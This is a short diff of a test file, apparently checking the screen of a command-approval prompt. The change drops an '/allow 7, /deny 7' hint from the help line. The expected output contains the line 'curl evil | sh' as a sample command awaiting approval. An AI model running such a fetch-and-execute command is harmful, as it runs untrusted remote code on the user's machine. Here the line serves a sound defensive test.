@@ -134,7 +134,7 @@ def test_focused_it_shows_what_would_be_run() -> None:
         "╎   command: make",
         "╎   curl evil | sh",
         "╎  1 Allow    2 Always   >3 Reject",
-        "╎ arrows or 1-3 choose, Enter answers, Esc goes back; or /allow 7, /deny 7",
+        "╎ arrows or 1-3 choose, Enter answers, Esc goes back",
     ]
 
 
